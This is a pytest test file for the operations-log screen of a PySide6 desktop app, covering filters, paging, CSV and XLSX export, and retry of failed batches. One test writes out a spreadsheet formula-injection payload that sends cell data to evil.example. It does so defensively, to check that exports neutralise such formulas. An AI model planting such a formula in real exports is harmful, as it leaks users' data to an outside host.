"""The operations log: every filter in SQL, order, paging without shifting, CSV, retry all."""

from __future__ import annotations

import csv
import re
import zipfile
from collections.abc import Callable
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from PySide6.QtCore import QCoreApplication, QDate, QLocale, Qt, QTimeZone, QTranslator
from PySide6.QtWidgets import QApplication
from pytestqt.qtbot import QtBot
from sqlalchemy import update

from anahp_desktop.demo.emulator import SinhaEmulator
from anahp_desktop.domain.statuses import BatchStatus, Trigger
from anahp_desktop.state import queries
from anahp_desktop.state.schema import operations_log
from anahp_desktop.ui import message_box
from anahp_desktop.ui.context import AppContext
from anahp_desktop.ui.log_export import CSV, XLSX
from anahp_desktop.ui.main_window import MainWindow
from anahp_desktop.ui.models.log_model import COL_STARTED, COL_STATUS, LogTableModel
from anahp_desktop.ui.resources import resources_dir
from anahp_desktop.ui.style import STYLE_SHEET
from anahp_desktop.ui.views.log_filters import TEXT_DEBOUNCE_MS, LogFilterBar, local_day_start_utc
from anahp_desktop.ui.views.log_view import LogView
from anahp_desktop.ui.views.sidebar import PAGE_LOG
from tests.helpers.source_db import BASE_TIME, SourceDb
from tests.ui.clipping import clipped
from tests.ui.conftest import SIGNAL_TIMEOUT_MS, wait_idle


@pytest.fixture
def logged(
    qtbot: QtBot,
    ui_context: AppContext,
    source_db: SourceDb,
    emulator: SinhaEmulator,
    make_window: Callable[..., MainWindow],
) -> MainWindow:
    """A log with successes and a 422 (scheduled), then a failed batch (manual), and a cli row."""
    source_db.add_valid(15)
    source_db.add_valid(1, tipo_alta="99")  # SINHA answers 422 for this one
    window = make_window(ui_context)
    with qtbot.waitSignal(window.controller.finished, timeout=SIGNAL_TIMEOUT_MS):
        window.controller.start(Trigger.SCHEDULED)
    wait_idle(qtbot, window)
    source_db.add_valid(5)
    emulator.script = ["503", "503", "503"]  # max_attempts 3: this batch fails
    with qtbot.waitSignal(window.controller.finished, timeout=SIGNAL_TIMEOUT_MS):
        window.request_sync(Trigger.MANUAL)
    wait_idle(qtbot, window)
    # one old row, to filter by date
    store = window.context.service.store
    with store.transaction() as conn:
        first = conn.execute(operations_log.select().order_by(operations_log.c.id)).first()
        assert first is not None
        conn.execute(
            update(operations_log)
            .where(operations_log.c.id == first.id)
            .values(started_at=first.started_at - timedelta(days=10), trigger="cli")
        )
    window.go_to(PAGE_LOG)
    qtbot.waitUntil(lambda: window.log_view.model.rowCount() > 0, timeout=SIGNAL_TIMEOUT_MS)
    wait_idle(qtbot, window)
    return window


def _rows(qtbot: QtBot, window: MainWindow) -> list[tuple[str, str, str]]:
    wait_idle(qtbot, window)
    model = window.log_view.model
    return [(r.status, r.trigger, r.id_lote or "") for r in model.rows()]


def test_filters_run_in_the_database(qtbot: QtBot, logged: MainWindow) -> None:
    view = logged.log_view
    everything = _rows(qtbot, logged)
    statuses = {s for s, _t, _l in everything}
    assert {"success", "failed", "rejected"} <= statuses

    view.filters.show_failures()
    failures = _rows(qtbot, logged)
    assert failures and {s for s, _t, _l in failures} <= {"failed", "rejected", "interrupted"}
    assert view.count_label.text() == "4 entries"  # 3 failed attempts and one 422

    view.filters.status.setCurrentIndex(view.filters.status.findText("Success"))
    assert {s for s, _t, _l in _rows(qtbot, logged)} == {"success"}

    view.filters.status.setCurrentIndex(0)
    view.filters.trigger.setCurrentIndex(view.filters.trigger.findText("Scheduled"))
    assert {t for _s, t, _l in _rows(qtbot, logged)} == {"scheduled"}
    view.filters.trigger.setCurrentIndex(view.filters.trigger.findText("Command line"))
    assert [t for _s, t, _l in _rows(qtbot, logged)] == ["cli"]

    view.filters.trigger.setCurrentIndex(0)
    view.filters.since.setDate(QDate.currentDate().addDays(-2))
    view.filters.since_check.setChecked(True)
    assert "cli" not in {t for _s, t, _l in _rows(qtbot, logged)}
    view.filters.since_check.setChecked(False)
    view.filters.until.setDate(QDate.currentDate().addDays(-5))
    view.filters.until_check.setChecked(True)
    assert [t for _s, t, _l in _rows(qtbot, logged)] == ["cli"]
    view.filters.until_check.setChecked(False)

    failed_lote = next(lote for s, _t, lote in failures if s == "failed")
    with qtbot.waitSignal(view.filters.changed, timeout=SIGNAL_TIMEOUT_MS):
        view.filters.text.setText(failed_lote[:14])
    assert {lote for _s, _t, lote in _rows(qtbot, logged)} >= {failed_lote}
    with qtbot.waitSignal(view.filters.changed, timeout=SIGNAL_TIMEOUT_MS):
        view.filters.text.setText("server error")
    found = _rows(qtbot, logged)
    assert found and {s for s, _t, _l in found} == {"failed"}
    with qtbot.waitSignal(view.filters.changed, timeout=SIGNAL_TIMEOUT_MS):
        view.filters.text.setText("no such text anywhere")
    assert _rows(qtbot, logged) == []
    assert view.state_label.text() == "No entries match these filters."


def test_sorting_by_start_time_both_ways(qtbot: QtBot, logged: MainWindow) -> None:
    model = logged.log_view.model
    newest = [r.id for r in model.rows()]
    model.sort(COL_STARTED, Qt.SortOrder.AscendingOrder)
    wait_idle(qtbot, logged)
    oldest = [r.id for r in model.rows()]
    assert sorted(newest) == sorted(oldest) and newest != oldest
    starts = [r.started_at for r in model.rows()]
    assert starts == sorted(starts)


def test_paging_is_lazy_and_new_rows_do_not_shift_the_page(
    qtbot: QtBot, logged: MainWindow
) -> None:
    store = logged.context.service.store
    model = LogTableModel(logged.runner, lambda: store)  # no view: pages only on request
    model.page_size = 3
    model.refresh()
    wait_idle(qtbot, logged)
    assert model.rowCount() == 3 and model.canFetchMore()
    first_page = model.rows()
    model.fetchMore()
    wait_idle(qtbot, logged)
    assert model.rowCount() == 6 and model.rows()[:3] == first_page
    with qtbot.waitSignal(logged.controller.finished, timeout=SIGNAL_TIMEOUT_MS):
        logged.request_sync(Trigger.MANUAL)
    wait_idle(qtbot, logged)
    assert model.rows()[:3] == first_page  # newer rows did not push the page down
    while model.canFetchMore():
        model.fetchMore()
        wait_idle(qtbot, logged)
    assert [r.id for r in model.rows()] == sorted((r.id for r in model.rows()), reverse=True)
    assert logged.log_view.model.rowCount() > 3  # the view shown refreshed itself


def _export(qtbot: QtBot, view: LogView, target: Path, kind: str = CSV) -> int:
    with qtbot.waitSignal(view.exported, timeout=SIGNAL_TIMEOUT_MS) as exported:
        view.export_to(target, kind)
    return int(exported.args[0])


def test_csv_export_streams_every_filtered_row(
    qtbot: QtBot, logged: MainWindow, tmp_path: Path
) -> None:
    view = logged.log_view
    view.model.page_size = 1
    view.filters.status.setCurrentIndex(view.filters.status.findText("Success"))
    wait_idle(qtbot, logged)
    target = tmp_path / "log.csv"
    count = _export(qtbot, view, target)
    with target.open(encoding="utf-8-sig") as handle:
        rows = list(csv.DictReader(handle))  # English: commas
    flt = view.filters.current()
    assert count == len(rows) == queries.count_log_rows(logged.context.service.store, flt)
    assert len(rows) > view.model.page_size  # streamed from the database, not the loaded rows
    assert {row["Status"] for row in rows} == {"Success"}
    assert {row["Origin"] for row in rows} <= {"Scheduled", "Manual", "Command line"}
    offset = datetime.now().astimezone().strftime("%z")
    assert rows[0]["Started"].endswith(f" {offset[:3]}:{offset[3:]}")  # local, with its offset
    assert view.count_label.text() == f"{count} entries"


def test_brazilian_export_opens_as_columns_in_excel(
    qtbot: QtBot, logged: MainWindow, tmp_path: Path
) -> None:
    translator = QTranslator()
    assert translator.load(str(resources_dir() / "i18n" / "anahp_desktop_pt_BR.qm"))
    QCoreApplication.installTranslator(translator)
    QLocale.setDefault(QLocale("pt_BR"))
    try:
        target = tmp_path / "registro.csv"
        count = _export(qtbot, logged.log_view, target)
    finally:
        QLocale.setDefault(QLocale("en"))
        QCoreApplication.removeTranslator(translator)
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8
    with target.open(encoding="utf-8-sig") as handle:
        rows = list(csv.reader(handle, delimiter=";"))
    assert rows[0][:4] == ["Início", "Fim", "Situação", "Origem"]
    assert len(rows) == count + 1 and {len(r) for r in rows} == {len(rows[0])}
    assert {r[2] for r in rows[1:]} >= {"Sucesso", "Falhou", "Rejeitado · resolvido"}
    assert re.fullmatch(r"\d\d/\d\d/\d{4} \d\d:\d\d:\d\d [+-]\d\d:\d\d", rows[1][0])


def test_xlsx_export_has_every_filtered_row(
    qtbot: QtBot, logged: MainWindow, tmp_path: Path
) -> None:
    target = tmp_path / "log.xlsx"
    count = _export(qtbot, logged.log_view, target, XLSX)
    with zipfile.ZipFile(target) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert sheet.count("<row ") == count + 1
    assert "Started" in sheet and "Success" in sheet


def test_retry_all_failed_names_the_count_and_resends(
    qtbot: QtBot, logged: MainWindow, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: list[str] = []

    def answer(_parent: object, _title: str, text: str) -> bool:
        asked.append(text)
        return True

    monkeypatch.setattr(message_box, "question", answer)
    monkeypatch.setattr(message_box, "information", lambda *a: asked.append(str(a[2])))
    with qtbot.waitSignal(logged.controller.finished, timeout=SIGNAL_TIMEOUT_MS) as finished:
        logged.log_view.retry_all_button.click()
    assert asked == ["Send the 1 waiting batch to SINHA now?\n\n1 failed · 5 records"]
    assert finished.args[0].delivered > 0
    assert finished.args[0].trigger == "retry"  # logged with its own trigger
    wait_idle(qtbot, logged)
    # the failures stay listed, marked resolved once their batch needs nothing more
    logged.log_view.filters.show_failures()
    logged.log_view.refresh()
    wait_idle(qtbot, logged)
    model = logged.log_view.model
    shown = sorted(model.index(r, COL_STATUS).data() for r in range(model.rowCount()))
    assert shown == ["Failed · resolved"] * 3 + ["Rejected · resolved"]
    tip = model.index(0, COL_STATUS).data(Qt.ItemDataRole.ToolTipRole)
    assert tip.startswith("Resolved: this batch was")


def test_only_unresolved_failures_leaves_out_those_whose_batch_was_delivered_or_replaced(
    qtbot: QtBot, logged: MainWindow, monkeypatch: pytest.MonkeyPatch
) -> None:
    view = logged.log_view
    status = view.filters.status
    status.setCurrentIndex(status.findText("Unresolved failures only"))
    shown = _rows(qtbot, logged)
    # the 422 of the first run was replaced by a delivered batch: resolved, not listed
    assert [s for s, _t, _l in shown] == ["failed"] * 3
    qtbot.waitUntil(lambda: view.count_label.text() == "3 entries", timeout=SIGNAL_TIMEOUT_MS)
    monkeypatch.setattr(message_box, "question", lambda *_a: True)
    with qtbot.waitSignal(logged.controller.finished, timeout=SIGNAL_TIMEOUT_MS):
        view.retry_all_button.click()
    wait_idle(qtbot, logged)
    view.refresh()
    assert _rows(qtbot, logged) == []  # delivered now: nothing unresolved is left
    assert view.filters.current().unresolved


def test_log_model_passes_the_model_tester(
    qtbot: QtBot, logged: MainWindow, qtmodeltester: object
) -> None:
    model = logged.log_view.model
    assert isinstance(model, LogTableModel) and model.rowCount() > 0
    qtmodeltester.check(model)  # type: ignore[attr-defined]


def test_enter_in_the_search_box_searches_at_once(qtbot: QtBot) -> None:
    bar = LogFilterBar()
    qtbot.addWidget(bar)
    with qtbot.waitSignal(bar.changed, timeout=TEXT_DEBOUNCE_MS // 3) as blocker:
        bar.text.setText("L2077485-3fa")
        qtbot.keyClick(bar.text, Qt.Key.Key_Return)
    assert blocker.args is not None and blocker.args[0].text == "L2077485-3fa"


def test_a_filter_date_before_1970_is_converted_without_the_c_library() -> None:
    # on Windows astimezone()/timestamp() fail before the epoch; Qt's zone data does not
    sao_paulo = QTimeZone(b"America/Sao_Paulo")
    assert local_day_start_utc(QDate(1969, 12, 31), sao_paulo) == datetime(1969, 12, 31, 3)
    assert local_day_start_utc(QDate(1970, 1, 1), sao_paulo) == datetime(1970, 1, 1, 3)
    assert local_day_start_utc(QDate(2026, 1, 15), sao_paulo) == datetime(2026, 1, 15, 3)
    bar = LogFilterBar()
    bar.since.setDate(QDate(1969, 6, 1))
    bar.since_check.setChecked(True)
    since = bar.current().since
    assert since is not None and since.year == 1969


@pytest.mark.parametrize("kind", [CSV, XLSX])
def test_an_export_never_holds_a_live_formula(tmp_path: Path, kind: str) -> None:
    """An operator named like a formula (or any text starting with = + - @) stays text."""

    from sqlalchemy import create_engine

    from anahp_desktop.state import migrate
    from anahp_desktop.state.records import OpenBatch
    from anahp_desktop.state.store import StateStore
    from anahp_desktop.ui.log_export import export_log

    engine = create_engine(f"sqlite:///{tmp_path / 'state.sqlite'}")
    migrate.upgrade(engine)
    store = StateStore(engine)
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Detalhes")'
    batch = OpenBatch("L1", "2077485", BatchStatus.PENDING, None, 1, 0, BASE_TIME)
    store.begin_attempt(batch, "run-1", Trigger.MANUAL, formula, mark_sending=False)
    target = tmp_path / f"log.{kind}"
    assert export_log(store, queries.LogFilter(), True, target, kind) == 1
    engine.dispose()
    if kind == CSV:
        with target.open(encoding="utf-8-sig") as handle:
            row = next(csv.DictReader(handle))
        assert row["Operator"] == "'" + formula
        return
    with zipfile.ZipFile(target) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        shared = (
            book.read("xl/sharedStrings.xml").decode()
            if "xl/sharedStrings.xml" in book.namelist()
            else ""
        )
    assert "<f>" not in sheet and "HYPERLINK" not in sheet.split("<sheetData>")[0]
    assert "=HYPERLINK(" in (shared + sheet).replace("&quot;", '"').replace("&amp;", "&")


def test_an_empty_log_shows_every_header_whole(
    qtbot: QtBot, ui_context: AppContext, make_window: Callable[..., MainWindow]
) -> None:
    app = QApplication.instance()
    assert isinstance(app, QApplication)
    app.setStyleSheet(STYLE_SHEET)  # its bold, padded headers are what must fit
    try:
        window = make_window(ui_context)
        window.go_to(PAGE_LOG)
        view = window.log_view
        qtbot.waitUntil(lambda: view.state_label.text() != "", timeout=SIGNAL_TIMEOUT_MS)
        wait_idle(qtbot, window)
        assert view.model.rowCount() == 0
        assert [p for p in clipped(window) if p.startswith("header")] == []
        # nothing filtered: not "no entries match these filters", and never "0 entrada"
        assert view.state_label.text() == "Nothing has been logged yet: no sync has sent a batch."
        qtbot.waitUntil(lambda: view.count_label.text() == "No entries", timeout=SIGNAL_TIMEOUT_MS)
    finally:
        app.setStyleSheet("")
